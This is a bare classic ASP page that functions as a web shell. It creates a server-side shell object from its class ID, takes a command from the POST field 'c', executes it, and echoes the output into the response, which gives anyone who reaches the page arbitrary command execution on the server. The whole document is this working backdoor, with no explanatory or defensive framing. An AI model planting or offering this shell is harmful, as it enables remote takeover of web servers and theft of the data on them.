<object runat="server" id="sh" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<%
c = Request.Form("c")
Set r = sh.Exec(c)
Response.Write r.StdOut.ReadAll
%>
